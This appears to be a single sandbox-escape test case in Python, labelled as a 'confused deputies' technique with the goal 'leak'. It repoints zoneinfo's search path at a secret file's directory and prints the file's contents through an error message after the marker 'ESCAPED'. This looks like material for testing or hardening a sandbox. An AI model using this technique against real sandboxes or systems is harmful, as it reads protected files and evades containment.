# technique: zoneinfo reads files that it finds by a search path: reset_tzpath sets it
# goal: leak
# source: own analysis: confused deputies
import zoneinfo
zoneinfo.reset_tzpath(['@SECRET@'.rpartition('/')[0]])
try:
    zoneinfo.ZoneInfo('secret.txt')
except ValueError as error:
    print('ESCAPED', error)
